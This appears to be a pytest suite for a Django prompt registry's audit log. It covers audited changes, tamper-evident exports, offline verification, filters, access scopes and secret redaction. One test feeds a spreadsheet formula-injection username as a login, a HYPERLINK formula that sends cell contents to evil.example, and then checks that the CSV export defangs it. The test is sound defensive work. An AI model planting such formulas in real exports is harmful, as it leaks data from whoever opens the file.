"""Every registry change is an audit event; exports stream, verify offline, and leak no secret."""

import json
import subprocess
import sys
from pathlib import Path

import pytest
from django.conf import settings

from audit.models import AuditEvent
from audit.verify import verify_file
from core.actors import Actor
from registry.models import Environment
from registry.services import set_deployment
from tests.factories import version_body

REPO = Path(settings.BASE_DIR)


def actions():
    return list(AuditEvent.objects.order_by("sequence").values_list("action", flat=True))


def test_registry_changes_are_audited_with_actor_and_context(api_for, cast):
    author = api_for("author")
    author.post(
        "/api/v1/prompts/",
        {"slug": "claim-triage", "name": "Claim triage", "team": "payments", "tier": 2, "owner": "owner"},
        format="json",
    )
    author.post("/api/v1/prompts/claim-triage/versions/", version_body(), format="json")
    author.post("/api/v1/prompts/claim-triage/versions/", version_body(), format="json")  # identical: no event
    api_for("owner").post(
        "/api/v1/prompts/claim-triage/kill-switch",
        {"environment": "production", "disabled": True, "reason": "incident 12"},
        format="json",
    )
    api_for("owner").post("/api/v1/teams/payments/members/", {"username": "outsider", "role": "viewer"}, format="json")
    got = actions()
    assert got.count("token.issued") == 3  # one per api_for() call
    for action in ("prompt.created", "version.created", "kill_switch.changed", "membership.added"):
        assert got.count(action) == 1, (action, got)
    version_event = AuditEvent.objects.get(action="version.created")
    assert version_event.actor_username == "author"
    assert version_event.actor_type == "token"
    assert version_event.actor_token.startswith("pl_")
    assert (version_event.team, version_event.prompt) == ("payments", "claim-triage")
    assert version_event.data["number"] == 1


def test_deployment_event_names_from_and_to_versions(cast, prompt, version):
    production = Environment.objects.get(slug="production")
    set_deployment(actor=Actor(user=cast["owner"]), prompt=prompt, environment=production, version=version)
    event = AuditEvent.objects.get(action="deployment.changed")
    assert event.data["from_version"] is None
    assert event.data["to_version"] == 1
    assert event.data["environment"] == "production"


def test_logins_and_failed_logins_are_audited(client, cast):
    client.post("/accounts/login/", {"username": "viewer", "password": "wrong"})
    client.post("/accounts/login/", {"username": "viewer", "password": "correct-horse-battery"})
    client.post("/accounts/logout/")
    failed = AuditEvent.objects.get(action="auth.login_failed")
    assert failed.data == {"username": "viewer"}
    assert AuditEvent.objects.filter(action="auth.login", actor_username="viewer").count() == 1
    assert AuditEvent.objects.filter(action="auth.logout", actor_username="viewer").count() == 1


@pytest.fixture
def history(api_for, cast, prompt, version):
    production = Environment.objects.get(slug="production")
    set_deployment(actor=Actor(user=cast["owner"]), prompt=prompt, environment=production, version=version)
    api_for("outsider").post(
        "/api/v1/prompts/",
        {"slug": "growth-banner", "name": "Banner", "team": "growth", "tier": 3, "owner": "outsider"},
        format="json",
    )
    return cast


def export(client, tmp_path, **params):
    response = client.get("/api/v1/audit-events/export", {"format": "jsonl", **params})
    assert response.status_code == 200, response.content[:500]
    path = tmp_path / "export.jsonl"
    path.write_bytes(b"".join(response.streaming_content))
    return path


def test_compliance_export_verifies_and_is_itself_audited(api_for, history, tmp_path):
    path = export(api_for("compliance"), tmp_path)
    report = verify_file(path)
    assert report.ok, report.summary()
    lines = [json.loads(line) for line in path.read_text().splitlines()]
    assert lines[-1]["record"] == "manifest"
    assert lines[-1]["contiguous"] is True
    assert lines[-1]["count"] == report.count
    assert AuditEvent.objects.filter(action="audit.exported", actor_username="compliance").exists()


def test_one_changed_byte_or_one_removed_line_fails_and_says_where(api_for, history, tmp_path):
    path = export(api_for("compliance"), tmp_path)
    original = path.read_bytes()
    changed = original.replace(b'"to_version":1', b'"to_version":2', 1)
    assert changed != original
    path.write_bytes(changed)
    report = verify_file(path)
    assert not report.ok
    assert report.problems[0].kind == "changed"
    assert report.problems[0].sequence is not None
    lines = original.splitlines(keepends=True)
    path.write_bytes(b"".join(lines[:2] + lines[3:]))
    report = verify_file(path)
    assert not report.ok
    assert report.problems[0].kind == "missing"
    assert report.problems[0].sequence == 3


def test_the_offline_verifier_runs_on_the_standard_library_alone(api_for, history, tmp_path):
    path = export(api_for("compliance"), tmp_path)
    # -S: no site-packages at all, so neither Django nor cryptography can be imported.
    ok = subprocess.run(
        [sys.executable, "-S", "-m", "audit.verify", str(path)], cwd=REPO, capture_output=True, text=True, timeout=60
    )
    assert ok.returncode == 0, ok.stdout + ok.stderr
    assert ok.stdout.startswith("OK: events 1..")
    lines = path.read_text().splitlines(keepends=True)
    path.write_text("".join(lines[:1] + lines[2:]))
    broken = subprocess.run(
        [sys.executable, "-S", "-m", "audit.verify", str(path)], cwd=REPO, capture_output=True, text=True, timeout=60
    )
    assert broken.returncode == 1
    assert "event 2: missing" in broken.stdout


def test_a_re_signed_export_fails_against_the_auditors_key(api_for, history, tmp_path):
    from audit import signing

    path = export(api_for("compliance"), tmp_path)
    trusted = signing.public_key_b64()
    lines = path.read_text().splitlines()
    manifest = json.loads(lines[-1])
    manifest["public_key"] = "A" * 43 + "="
    path.write_text("\n".join([*lines[:-1], json.dumps(manifest)]) + "\n")
    assert not verify_file(path, public_key=trusted).ok


def test_team_member_exports_only_their_teams_events(api_for, history, tmp_path):
    path = export(api_for("viewer"), tmp_path)
    events = [json.loads(line) for line in path.read_text().splitlines()]
    teams = {e["team"] for e in events if e["record"] == "event"}
    assert teams == {"payments"}
    assert events[-1]["contiguous"] is False
    assert verify_file(path).ok


def test_filters_and_bad_filters(api_for, history, tmp_path):
    client = api_for("compliance")
    path = export(client, tmp_path, action="deployment.changed")
    events = [json.loads(line) for line in path.read_text().splitlines() if '"record":"event"' in line]
    assert [e["action"] for e in events] == ["deployment.changed"]
    bad = client.get("/api/v1/audit-events/export", {"since": "last tuesday"})
    assert bad.status_code == 400
    assert "since" in bad.json()["field_errors"]
    bad_format = client.get("/api/v1/audit-events/export", {"format": "xml"})
    assert bad_format.status_code == 400


def test_any_offset_a_time_may_carry_is_read_and_a_time_past_the_calendar_is_a_400(api_for, history, tmp_path):
    """+16:00 is an offset Python reads and PostgreSQL refuses ("time zone displacement out of
    range"): it once broke the export mid-stream and the list with a 500. Times are read in UTC."""
    client = api_for("compliance")

    def listed(**params):
        response = client.get("/api/v1/audit-events/", {"page_size": 100, **params})
        assert response.status_code == 200, response.content
        return [event["sequence"] for event in response.json()["results"]]

    for since in ("2000-01-01T00:00:00+16:00", "2000-01-01T00:00:00-23:59"):
        assert listed(since=since) == listed()
        assert verify_file(export(client, tmp_path, since=since)).ok
    assert listed(until="9999-12-31") == listed()  # the whole last day of the calendar
    for field, value in (("since", "0001-01-01T00:00:00+01:00"), ("until", "9999-12-31T23:59:59-01:00")):
        for path in ("/api/v1/audit-events/", "/api/v1/audit-events/export"):
            bad = client.get(path, {field: value})
            assert bad.status_code == 400, (path, field)
            assert bad.json()["code"] == "invalid"
            assert bad.json()["field_errors"] == {field: ["a time between the years 1 and 9999, in UTC"]}


def test_token_without_audit_scope_cannot_read_or_export(api_for, history):
    client = api_for("compliance", scopes=["prompts:read"])
    assert client.get("/api/v1/audit-events/").status_code == 403
    assert client.get("/api/v1/audit-events/export").status_code == 403


def test_event_list_is_cursor_paginated_newest_first(api_for, history):
    data = api_for("compliance").get("/api/v1/audit-events/", {"page_size": 2}).json()
    assert len(data["results"]) == 2
    assert data["results"][0]["sequence"] > data["results"][1]["sequence"]
    assert data["next"]


def test_csv_export_has_the_event_columns(api_for, history):
    response = api_for("compliance").get("/api/v1/audit-events/export", {"format": "csv"})
    text = b"".join(response.streaming_content).decode()
    header, *rows = text.splitlines()
    assert header.startswith("sequence,occurred_at,actor_type")
    assert any("deployment.changed" in row for row in rows)


def test_a_formula_typed_at_the_login_is_text_in_the_csv_export(api_for, history, client):
    import csv
    import io

    client.post("/accounts/login/", {"username": '=HYPERLINK("http://evil.example/?"&A1,"x")', "password": "x"})
    client.post("/accounts/login/", {"username": "@SUM(1+1)", "password": "x"})
    response = api_for("compliance").get("/api/v1/audit-events/export", {"format": "csv"})
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    failed = [row for row in rows if "auth.login_failed" in row]
    assert len(failed) == 2


def test_no_secret_appears_in_any_event_or_export(api_for, cast, history, tmp_path, monkeypatch, client):
    from django.contrib.auth import get_user_model

    from registry.services import issue_token

    monkeypatch.setenv("OPENAI_API_KEY", "sk-test-provider-key-never-logged-123")
    _, raw = issue_token(actor=Actor.for_system(), user=cast["author"], scopes=["prompts:read"])
    client.post("/accounts/login/", {"username": "viewer", "password": "correct-horse-battery"})
    client.post("/accounts/login/", {"username": "viewer", "password": "my-secret-wrong-password"})
    secrets_ = [raw, "sk-test-provider-key-never-logged-123", "correct-horse-battery", "my-secret-wrong-password"]
    secrets_ += list(get_user_model().objects.values_list("password", flat=True))
    secrets_ += list(cast["author"].api_tokens.values_list("key_hash", flat=True))
    dumped = json.dumps(list(AuditEvent.objects.values()), default=str)
    exported = export(api_for("compliance"), tmp_path).read_text()
    for secret in secrets_:
        assert secret not in dumped
        assert secret not in exported
